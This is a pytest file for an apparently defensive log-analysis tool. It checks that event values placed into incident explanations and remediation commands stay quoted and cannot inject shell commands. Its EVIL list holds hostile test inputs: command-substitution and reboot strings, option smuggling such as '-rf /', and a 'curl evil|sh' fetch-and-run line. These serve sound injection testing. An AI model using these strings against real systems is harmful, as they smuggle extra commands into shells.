"""Explanations hold the real values, and a value never becomes our own words or a second word of a shell."""

from __future__ import annotations

import dataclasses
import shlex

import pytest

from threatlens.analyzers import explain, phrases
from threatlens.analyzers.advice import as_text, fields_of, filled, said
from threatlens.analyzers.explain import Story
from threatlens.analyzers.heuristic import _ACTIONS
from threatlens.analyzers.severity import Raised
from threatlens.event import LEVEL_SEVERITIES, Event
from threatlens.rule_library import Advice

EVIL = (
    "$(reboot)", "`reboot`", "a; reboot", "a\nreboot", "a' || reboot '", 'a" || reboot "', "--help", "-rf /", "a\x00b",
    "root\u202egnp", "x`, then run `curl evil|sh", "anna. It is harmless. Close it",
    "\\", "a\tb", "*", "~root",
    "a|b", "{user.name}", "“quoted”", "", "x" * 5_000, "a&b", "!!", "#", "$HOME",
)  # fmt: skip


def event(severity=8, detections=(), **fields) -> Event:
    named = {name.replace("__", "."): value for name, value in fields.items()}
    return Event(7, 0, 0, "auth", 1, "/var/log/auth.log", "authentication", severity, "sshd", "text", "raw text", named,
                 detections=tuple(detections))  # fmt: skip


def detection(
    level="high", kind="rule", events=1, event_id=7, suppressed=None, rule_id="r1", tags=("attack.t1110.001",)
):
    return {
        "rule.id": rule_id, "rule.name": "Password guessing", "rule.level": level, "severity": LEVEL_SEVERITIES[level],
        "kind": kind, "count": events, "tags": list(tags), "event_id": event_id, "suppressed": suppressed,
    }  # fmt: skip


ADVICE = Advice(
    "Password guessing", "high", "", "{source.ip} guessed passwords of {user.name}.",
    ("Lock it: `usermod --lock -- {user.name}`.", "Look: `grep 'from {source.ip}' /var/log/auth.log`."), ("A script",),
)  # fmt: skip


def test_an_event_with_a_match_is_explained_by_its_rule_with_its_own_values():
    one = event(detections=[detection(kind="correlation", events=40)], user__name="root", source__ip="203.0.113.9",
                host__name="web1", event__outcome="failure")  # fmt: skip
    explanation = explain.of_event(one, {"r1": ADVICE})
    assert explanation.text == (
        "203.0.113.9 guessed passwords of root. It is about the host web1 and the account root"
        ". It came from 203.0.113.9. 40 events together led to it, so a slip of one person is unlikely."
        " It did not succeed. It may be harmless: a script. ATT&CK T1110.001 is guessing passwords:"
        " many tries until one fits."
    )
    assert explanation.advice[0] == "Lock it: `usermod --lock -- root`."


def test_a_sentence_that_ends_with_a_value_ends():
    advice = Advice("Probe", "medium", "", "{source.ip} asked for: {url.original}", (), ("Unlikely",))
    one = event(detections=[detection("medium")], source__ip="203.0.113.9", url__original="/a b")
    text = explain.of_event(one, {"r1": advice}).text
    assert text.startswith("203.0.113.9 asked for: “/a b”. It came from 203.0.113.9.")
    assert "A harmless cause is unlikely." in text


def test_a_server_that_broke_down_does_not_tell_whether_it_succeeded():
    fields = {"event__outcome": "failure", "http__response__status_code": 500}
    one = event(detections=[detection("medium", tags=("attack.t1190", "attack.initial-access"))], **fields)
    text = explain.of_event(dataclasses.replace(one, category="web"), {"r1": ADVICE}).text
    assert "It did not succeed" not in text
    assert "cannot be told" in text


def test_routine_events_are_not_explained_and_all_from_5_on_are():
    assert explain.of_event(event(4), {}) is None
    for severity in range(5, 11):
        assert explain.of_event(event(severity), {}).text


def test_a_match_that_is_muted_or_completed_by_another_event_explains_nothing():
    assert explain.of_event(event(4, [detection(suppressed="mute:1")]), {"r1": ADVICE}) is None
    assert explain.of_event(event(4, [detection(kind="correlation", event_id=8)]), {"r1": ADVICE}) is None


@pytest.mark.parametrize("action", sorted({name for (name, _), points in _ACTIONS.items() if points >= 5}))
def test_every_action_that_is_severe_by_itself_has_words_and_advice(action):
    assert action in phrases.ACTIONS
    explanation = explain.of_event(event(5, event__action=action, source__ip="203.0.113.9", user__name="anna"), {})
    assert dict(explanation.statements)["What happened"]
    assert explanation.recommendations


TEMPLATES = [
    *(text for phrase in phrases.ACTIONS.values() for text in phrase.advice),
    *(text for phrase in phrases.CATEGORIES.values() for text in phrase.advice),
    *ADVICE.recommendations, explain._LOCK, explain._KEEP, explain._BLOCK, explain._ALL,
]  # fmt: skip


@pytest.mark.parametrize("value", EVIL)
def test_a_hostile_value_stays_one_word_of_every_command(value):
    for template in TEMPLATES:
        names = dict.fromkeys(fields_of(template))
        harmless, hostile = (
            filled(template, dict.fromkeys(names, "anna")),
            filled(template, dict.fromkeys(names, value)),
        )
        for plain, filled_in in zip(harmless, hostile, strict=True):
            if plain.is_code:
                assert filled_in.text.isprintable()
                assert "`" not in filled_in.text
                before, after = shlex.split(plain.text), shlex.split(filled_in.text)
                assert len(before) == len(after), filled_in.text
                changed = [word for old, word in zip(before, after, strict=True) if old != word]
                assert not any(word.startswith("-") for word in changed), filled_in.text


@pytest.mark.parametrize("value", EVIL)
def test_a_hostile_value_in_a_sentence_stands_in_quotes_and_shows_what_hides(value):
    text = said(value)
    assert text.isprintable()
    assert "`" not in text
    assert len(text) <= 202
    if not value.replace(".", "").isalnum():
        assert text[0] == "“"
        assert text[-1] == "”"
        assert "“" not in text[1:-1]


def test_placeholders_inside_values_are_not_filled():
    (part,) = filled("{user.name} came", {"user.name": "{source.ip}", "source.ip": "203.0.113.9"})
    assert part.text == "“{source.ip}” came"


def test_advice_about_values_that_an_event_lacks_is_left_out():
    explanation = explain.of_event(event(detections=[detection()], source__ip="203.0.113.9"), {"r1": ADVICE})
    assert explanation.advice == ["Look: `grep 'from 203.0.113.9' /var/log/auth.log`."]


def _story(value="203.0.113.9", *, success=True) -> Story:
    rule = Raised("r1", "Password guessing", "high", 8, "correlation", 40, ("attack.credential-access", "attack.t1110"))
    return Story(value, "guessed passwords and got in as root", success, 0, 180_000_000, 3, 41, [rule], [value],
                 [value], [value], [value] if success else [])  # fmt: skip


def test_an_incident_is_explained_with_who_how_sure_and_what_to_do_first():
    explanation = explain.of_incident(_story("203.0.113.9"))
    assert {topic: as_text(parts) for topic, parts in explanation.statements} == {
        "What happened": "203.0.113.9 guessed passwords and got in as root. 41 events from 1970-01-01 00:00:00 UTC on,"
        " over 3 minutes led to 3 matches of 1 rule.",
        "To whom": "The host 203.0.113.9. The account 203.0.113.9. It came from 203.0.113.9.",
        "How sure": "One rule speaks of it; it succeeded, and 203.0.113.9 is part of what succeeded."
        " Treat it as real until you know better.",
        "What it means": "ATT&CK T1110 is guessing passwords. Stages: credential access.",
    }
    assert any("nft add rule inet filter input ip saddr 203.0.113.9 drop" in text for text in explanation.advice)
    assert any("ip6 saddr 2001:db8::1 drop" in text for text in explain.of_incident(_story("2001:db8::1")).advice)


def test_an_attempt_advises_no_locking_of_accounts():
    assert not any("usermod" in text for text in explain.of_incident(_story(success=False)).advice)


def test_every_technique_of_the_shipped_rules_can_be_said_in_plain_words(shipped_tags):
    silent = [tags for tags in shipped_tags if tags and not explain.meaning(tags)]
    assert silent == []


@pytest.fixture(scope="session")
def shipped_tags():
    from pathlib import Path

    from threatlens.detectors import BUILTIN
    from threatlens.detectors.documents import read_documents

    return [
        [str(tag) for tag in document.value.get("tags", ())]
        for path in Path(BUILTIN).rglob("*.yml")
        for document in read_documents(path.read_bytes())
    ]
